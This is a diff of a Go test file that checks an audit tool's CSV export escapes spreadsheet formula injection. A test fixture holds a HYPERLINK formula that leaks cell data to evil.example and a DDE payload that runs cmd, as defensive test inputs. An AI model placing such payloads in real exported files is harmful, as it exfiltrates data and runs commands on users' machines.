@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"apigee-audit/audit"
+	"apigee-audit/internal/text"
 )
 
 // readCSV reads a report as programs do, by the names of its columns.
@@ -59,13 +60,13 @@ func TestCSVCannotCalculate(t *testing.T) {
 		"  =1": "  '=1", `"=1`: `"'=1`, "＝1": "'＝1", "a;=1": "a;'=1", "a; =1": "a; '=1", `a;"=1`: `a;"'=1`, "a=1": "a=1", "a, -1": "a, -1",
 		"": "", "plain": "plain", "é": "é",
 	} {
-		if got := harmlessCell(in); got != want {
+		if got := harmlessCell(text.Sanitize(in)); got != want {
 			t.Errorf("%q becomes %q, want %q", in, got, want)
 		}
 	}
 	f := neverRefreshed()
 	f.Name = `=HYPERLINK("https://evil.example/?x="&A1)` + "\r\n\"=cmd|' /C calc'!A0"
-	row := csvFinding(&f, "new")
+	row := csvFinding(Sanitized(&f), "new")
 	if got := harmlessCell(row["name"]); !strings.HasPrefix(got, "'=") || strings.ContainsAny(got, "\r\n") {
 		t.Errorf("the name becomes %q", got)
 	}
@@ -77,7 +78,7 @@ func FuzzCSVCell(f *testing.F) {
 	f.Add(" ;@x")
 	f.Fuzz(func(t *testing.T, in string) {
 		for part := range strings.SplitSeq(harmlessCell(in), ";") {
-			if text := strings.TrimLeft(part, ` "`); text != "" && strings.ContainsRune(formulaStarts, []rune(text)[0]) {
+			if cell := strings.TrimLeft(part, ` "`); cell != "" && strings.ContainsRune(formulaStarts, []rune(cell)[0]) {
 				t.Errorf("%q becomes %q", in, part)
 			}
 		}
